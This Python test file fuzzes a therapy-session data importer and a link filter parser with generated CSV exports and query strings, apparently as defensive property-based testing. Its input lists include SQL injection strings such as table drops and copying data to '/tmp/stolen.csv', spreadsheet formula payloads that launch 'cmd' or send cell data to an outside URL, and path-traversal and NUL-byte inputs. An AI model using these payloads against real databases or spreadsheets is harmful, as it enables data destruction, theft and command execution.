"""Hostile input, property-based: generated exports fed to the importer, generated links to the filter parser.

Files vary everything an export can: encoding (UTF-8 with and without BOM, UTF-16, Windows-1252,
Latin-1), delimiter, quoting, line endings, header spelling and column order, huge fields, control
characters, Unicode, numbers out of range, dates that are not dates, SQL fragments and spreadsheet
formula prefixes in every text field; then some are broken on purpose (stray delimiters, unclosed
quotes, NUL bytes, invalid UTF-8, truncation, multi-megabyte lines, random bytes).

The importer must never raise, must never write part of a file (all of it, or with keep_valid all of
its valid rows, or nothing), must store text exactly as written (SQL is data, never code), and must
name the line of every rejected row. The filter parser must turn any link into a valid selection.
"""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import shutil
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from attune import db, filters, ingest, integrity

EXAMPLES = int(os.environ.get("ATTUNE_HYPOTHESIS_EXAMPLES", "40"))
SOAK_EXAMPLES = int(os.environ.get("ATTUNE_SOAK_EXAMPLES", "1500"))
HOSTILE_SETTINGS = dict(deadline=None, print_blob=True, suppress_health_check=[
    HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture,
    HealthCheck.large_base_example, HealthCheck.filter_too_much])

SQL_FRAGMENTS = [
    "'; DROP TABLE sessions; --", "\"); DELETE FROM feedback; --", "' OR '1'='1", "1; SELECT * FROM meta",
    "' UNION SELECT value FROM meta --", "$start_date", "?", "%s", "{}", "'||(SELECT version())||'",
    "COPY sessions TO '/tmp/stolen.csv'", "ATTACH '/tmp/evil.duckdb' AS evil", "UPDATE meta SET value='0'",
    "/* comment */ SELECT 1", "Robert'); DROP TABLE therapists;--", "\\'; PRAGMA database_list; --",
]
FORMULAS = ["=1+1", "=HYPERLINK(\"http://example.invalid\",\"click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/c calc\")"]
MISSING_MARKERS = {"", "na", "n/a", "#n/a", "#null!", "null", "none", "nan", "-"}
LATIN = "".join(chr(c) for c in itertools.chain(range(0x20, 0x7F), range(0xA0, 0x100)))
CONTROL = "\t\x0b\x0c\x07\x1b\x01"
COLUMNS = {
    "sessions": ["session_id", "client_id", "therapist_id", "scheduled_at", "status", "session_number", "site",
                 "service"],
    "feedback": ["session_id", "srs_relationship", "srs_goals", "srs_approach", "srs_overall", "srs_total",
                 "comment"],
}
TEXT_COLUMNS = {"sessions": ["session_id", "client_id", "therapist_id", "site", "service"],
                "feedback": ["session_id", "comment"]}
OPTIONAL = {"sessions": {"status", "session_number", "site", "service"}, "feedback": {"srs_total", "comment"}}
LINE_BREAK = re.compile(r"\r\n|\r|\n")
MAX_LINE_BYTES = 2_000_000  # DuckDB's CSV reader refuses longer lines (max_line_size, 2 MiB by default)
STATUS_WORDS = ["attended", "Show", "No show", "DNA", "Late canceled", "Canceled", "Clinician canceled", "Arrived"]


@dataclass
class Export:
    kind: str
    columns: list[str]
    rows: list[dict[str, str]]
    valid: list[bool]
    data: bytes
    well_formed: bool
    keep_valid: bool
    how: str
    starts: list[int]  # the physical line each record starts on


def _expected_text(value: str) -> str | None:
    return None if value.lower() in MISSING_MARKERS else value


@st.composite
def text_values(draw, alphabet: str | None) -> str:
    """Any text a field might hold; never starting or ending with whitespace (the importer trims that)."""
    characters = (st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"])
                  if alphabet is None else st.sampled_from(alphabet))
    kind = draw(st.sampled_from(["sql", "formula", "text", "huge", "mixed", "control"]))
    if kind == "sql":
        value = draw(st.sampled_from(SQL_FRAGMENTS))
    elif kind == "formula":
        value = draw(st.sampled_from(FORMULAS))
    elif kind == "huge":
        value = draw(characters) * draw(st.integers(10_000, 200_000)) + "x"
    elif kind == "mixed":
        value = draw(st.sampled_from(SQL_FRAGMENTS)) + draw(st.text(characters, max_size=20)) + \
            draw(st.sampled_from(FORMULAS))
    elif kind == "control":  # a stray control character, as pasted text sometimes carries
        value = f"{draw(st.text(characters, min_size=1, max_size=15))}{draw(st.sampled_from(CONTROL))}x"
    else:
        value = draw(st.text(characters, min_size=1, max_size=40))
    value = value.strip()
    return value or "x"


def _required(draw, text) -> str:
    """A value for a required column of a valid row: any text but a missing-value marker ("NA", "-"...), which
    the importer reads as an empty cell, by design."""
    value = draw(text)
    return value if _expected_text(value) is not None else f"{value}x"


def _valid_row(draw, kind: str, number: int, text) -> dict[str, str]:
    if kind == "sessions":
        when = datetime(2025, 1, 1) + timedelta(minutes=draw(st.integers(0, 600 * 24 * 60)))
        return {
            "session_id": f"s{number}-{draw(text)}", "client_id": _required(draw, text),
            "therapist_id": _required(draw, text),
            "scheduled_at": when.strftime(draw(st.sampled_from(["%Y-%m-%d %H:%M", "%Y-%m-%dT%H:%M:%S"]))),
            "status": draw(st.sampled_from(STATUS_WORDS)), "session_number": str(draw(st.integers(1, 500))),
            "site": draw(text), "service": draw(text),
        }
    items = [draw(st.integers(0, 100)) / 10 for _ in range(4)]
    return {"session_id": f"s{number}-{draw(text)}", "srs_relationship": f"{items[0]:g}",
            "srs_goals": f"{items[1]:g}", "srs_approach": f"{items[2]:g}", "srs_overall": f"{items[3]:g}",
            "srs_total": f"{sum(items):.1f}", "comment": draw(text)}


def _spoil(draw, kind: str, row: dict[str, str], columns: list[str]) -> dict[str, str]:
    """Make one value in the file impossible: out of range, not a number, not a date, a required cell empty."""
    row = dict(row)
    if kind == "sessions":
        spoils = ([
            ("session_number", "99999999999"), ("session_number", "1e309"), ("session_number", "twelve"),
            ("scheduled_at", "2025-13-45 10:00"), ("scheduled_at", "yesterday"), ("scheduled_at", "0000-00-00"),
            ("status", "maybe"), ("status", "'; DROP TABLE sessions; --"), ("client_id", ""),
            ("therapist_id", "N/A")])
    else:
        spoils = ([
            ("srs_goals", "10.5"), ("srs_goals", "-1"), ("srs_overall", "1e309"), ("srs_overall", "NaN?"),
            ("srs_total", "41"), ("srs_total", "=SUM(B2:E2)"), ("srs_approach", "ten")])
    column, value = draw(st.sampled_from([(c, v) for c, v in spoils if c in columns]))
    row[column] = value
    return row


def _serialise(rows: list[dict[str, str]], columns: list[str], header: list[str], delimiter: str, quoting: int,
               newline: str) -> tuple[str, list[int]]:
    """The CSV text and the physical line where each record starts."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting, lineterminator=newline)
    writer.writerow(header)
    starts = []
    for row in rows:
        starts.append(1 + len(LINE_BREAK.findall(buffer.getvalue())))
        writer.writerow([row[c] for c in columns])
    return buffer.getvalue(), starts


def _header(draw, name: str) -> str:
    spelled = draw(st.sampled_from([name, name.upper(), name.replace("_", " ").title(), f" {name} ",
                                    name.replace("_", "-")]))
    return spelled


@st.composite
def exports(draw) -> Export:
    kind = draw(st.sampled_from(list(COLUMNS)))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"]))
    text = text_values(None if encoding.startswith("utf") else LATIN)
    columns = [c for c in COLUMNS[kind] if c not in OPTIONAL[kind] or draw(st.booleans())]
    columns = draw(st.permutations(columns))
    count = draw(st.integers(1, 12))
    rows, valid = [], []
    for number in range(count):
        row = _valid_row(draw, kind, number, text)
        good = draw(st.integers(0, 9)) > 0
        rows.append(row if good else _spoil(draw, kind, row, columns))
        valid.append(good)
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    header = [_header(draw, c) for c in columns]
    content, starts = _serialise(rows, columns, header, delimiter, quoting, newline)
    data = content.encode(encoding)
    how = f"{kind}, {encoding}, delimiter {delimiter!r}, {'all' if quoting == csv.QUOTE_ALL else 'minimal'} quoting"
    longest = max(len(line.encode("utf-8")) for line in content.split(newline))
    if longest > MAX_LINE_BYTES:  # longer lines than DuckDB reads are rejected as a whole: hostile, not valid
        how += f", a {longest:,}-byte line"
    sabotage = draw(st.sampled_from(["none"] * 6 + ["nul", "stray delimiter", "unclosed quote", "bad utf-8",
                                                    "truncated", "huge line", "random bytes", "header only",
                                                    "empty"]))
    if sabotage != "none":
        data = _sabotage(draw, sabotage, data, encoding, delimiter)
        how += f", sabotaged: {sabotage}"
    well_formed = sabotage == "none" and longest <= MAX_LINE_BYTES
    return Export(kind, columns, rows, valid, data, well_formed, draw(st.booleans()), how, starts)


def _sabotage(draw, how: str, data: bytes, encoding: str, delimiter: str) -> bytes:
    unit = 2 if encoding == "utf-16" else 1
    tail_encoding = {"utf-16": "utf-16-le", "utf-8-sig": "utf-8"}.get(encoding, encoding)
    cut = draw(st.integers(0, max(0, len(data) // unit - 1))) * unit
    if how == "nul":
        return data[:cut] + b"\x00" * unit + data[cut:]
    if how == "stray delimiter":
        return data + (delimiter * 3 + "x\n").encode(tail_encoding)
    if how == "unclosed quote":
        return data + ('"never closed' + delimiter + "x\n").encode(tail_encoding)
    if how == "bad utf-8":
        return data[:cut] + b"\xc3\x28\xff" + data[cut:]
    if how == "truncated":
        return data[:cut]
    if how == "huge line":
        return data + b"H" * 3_000_000 + b"\n"
    if how == "random bytes":
        return draw(st.binary(min_size=1, max_size=2000))
    if how == "header only":
        return data.split(b"\n")[0] + b"\n"
    return b""


@pytest.fixture(scope="module")
def empty_template(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "template.duckdb"
    db.connect(path).close()
    return path


def _stored(con, kind: str, batch_id: int) -> list[tuple]:
    columns = ", ".join(TEXT_COLUMNS[kind])
    table = "sessions" if kind == "sessions" else "feedback"
    return sorted(con.execute(f"SELECT {columns} FROM {table} WHERE batch_id = ?", [batch_id]).fetchall(),
                  key=repr)


def _expected(export: Export, keep: list[bool]) -> list[tuple]:
    out = []
    for row, wanted in zip(export.rows, keep, strict=True):
        if wanted:
            out.append(tuple(_expected_text(row[c]) if c in export.columns else None
                             for c in TEXT_COLUMNS[export.kind]))
    return sorted(out, key=repr)


TRIED = {"files": 0, "imported": 0, "rejected": 0, "unreadable": 0, "unchanged": 0, "sabotaged": 0}


def check_import(template: Path, tmp_path: Path, export: Export) -> None:
    """The properties every generated file must satisfy, on a fresh copy of an empty database."""
    database = tmp_path / "hostile.duckdb"
    shutil.copy(template, database)
    con = db.connect(database)
    try:
        _check_import(con, tmp_path, export)
    finally:
        con.close()


def _check_import(con, tmp_path: Path, export: Export) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(export.data)
    before = integrity.table_checksums(con)
    report = ingest.import_file(con, path, keep_valid=export.keep_valid)  # must not raise
    after = integrity.table_checksums(con)
    TRIED["files"] += 1
    TRIED[report.status] += 1
    TRIED["sabotaged"] += not export.well_formed
    assert integrity.problems(con) == []
    if report.status != "imported":
        assert after == before, f"{export.how}: {report.status} but the database changed"
    else:
        table = ingest.SPECS[report.kind].table
        assert after[table][0] == before[table][0] + report.inserted, f"{export.how}: rows written ≠ reported"
        assert after["import_batches"][0] == before["import_batches"][0] + 1
        if not export.keep_valid:
            assert report.rejected == 0, f"{export.how}: imported a file with rejected rows"
    if not export.well_formed:
        return
    invalid = export.valid.count(False)
    if invalid and not export.keep_valid:
        assert report.status == "rejected", (export.how, report.summary, report.problems[:3])
        assert report.rejected == invalid
        lines = {p.line for p in report.problems}
        bad_lines = {start for start, ok in zip(export.starts, export.valid, strict=True) if not ok}
        assert lines == bad_lines, (export.how, lines, bad_lines)
        return
    expected_status = {"imported"} if invalid < len(export.rows) else {"unchanged", "rejected"}
    assert report.status in expected_status, (export.how, report.summary, report.problems[:3])
    assert report.inserted == len(export.rows) - invalid
    if report.status == "imported":
        assert _stored(con, export.kind, report.batch_id) == _expected(export, export.valid), export.how
    assert con.execute("SELECT count(*) FROM therapists").fetchall()[0][0] == before["therapists"][0]


def _run_files(template: Path, tmp_path: Path, examples: int) -> None:
    @settings(max_examples=examples, **HOSTILE_SETTINGS)
    @given(export=exports())
    def property_(export):
        check_import(template, tmp_path, export)

    property_()


def test_generated_exports_import_whole_or_not_at_all(empty_template, tmp_path, figures):
    _run_files(empty_template, tmp_path, EXAMPLES)
    figures(generated_files_tried=TRIED["files"], **{k: v for k, v in TRIED.items() if k != "files"})


@pytest.mark.soak
def test_generated_exports_soak(empty_template, tmp_path, figures):
    _run_files(empty_template, tmp_path, SOAK_EXAMPLES)
    figures(generated_files_tried=TRIED["files"], **{k: v for k, v in TRIED.items() if k != "files"})


# ---- links: every query string becomes a valid selection -------------------------------------------------

CHOICES = filters.Choices(therapist_ids=("T01", "T02", "T03"), supervisors=("Moreau team",),
                          sites=("North", "Riverside"), services=("Couples",))
AS_OF, FIRST = date(2026, 11, 20), date(2025, 5, 22)
hostile_text = st.one_of(st.sampled_from(SQL_FRAGMENTS + FORMULAS), st.text(max_size=60),
                         st.text(st.characters(codec="utf-8"), max_size=5).map(lambda s: s * 5000),
                         st.sampled_from(["T01", "T01,T02", "North", "9999-12-31", "0001-01-01", "2026-02-30",
                                          "custom", "all", "ytd", "T01,,T99,'", "\x00", "%00", "..%2f"]))
queries = st.dictionaries(
    st.one_of(st.sampled_from(["period", "from", "to", "therapist", "team", "site", "service"]), st.text(max_size=10)),
    hostile_text, max_size=8)


@settings(max_examples=EXAMPLES * 5, deadline=None)
@given(query=queries)
def test_any_link_gives_a_valid_selection(query):
    selection, notices = filters.parse_query(query, CHOICES, AS_OF, FIRST)
    assert selection.preset in filters.PRESETS
    assert selection.start <= selection.end
    for field_name in filters.QUERY_KEYS:
        assert set(getattr(selection, field_name)) <= set(getattr(CHOICES, field_name))
    assert all(isinstance(n, str) and len(n) < 2000 for n in notices)
    again, more = filters.parse_query(filters.to_query(selection), CHOICES, AS_OF, FIRST)
    assert again == selection and more == []  # the link the app writes back reproduces the view


@pytest.mark.parametrize("value", ["99999999999", "1e309", "-1e309", "inf", "-inf", "9" * 400, "1e-400"])
def test_numbers_out_of_range_are_rejected_rows_not_errors(empty_template, tmp_path, value):
    """The cases the generator above reaches only sometimes, always checked: every number column."""
    files = {
        "sessions.csv": f"session_id,client_id,therapist_id,scheduled_at,status,session_number\n"
                        f"S1,C1,T1,2025-01-01 10:00,attended,{value}\n",
        "feedback.csv": f"session_id,srs_relationship,srs_goals,srs_approach,srs_overall,ors_total\n"
                        f"S1,{value},5,5,5,{value}\n",
    }
    database = tmp_path / "numbers.duckdb"
    shutil.copy(empty_template, database)
    con = db.connect(database)
    try:
        for name, text in files.items():
            path = tmp_path / name
            path.write_text(text)
            before = integrity.table_checksums(con)
            report = ingest.import_file(con, path)
            if report.status == "imported":  # a tiny positive number may round to 0: then it is a valid score
                assert value == "1e-400" and report.inserted == 1, (name, report.summary)
                continue
            assert report.status == "rejected" and report.rejected == 1, (name, report.summary)
            assert integrity.table_checksums(con) == before
    finally:
        con.close()
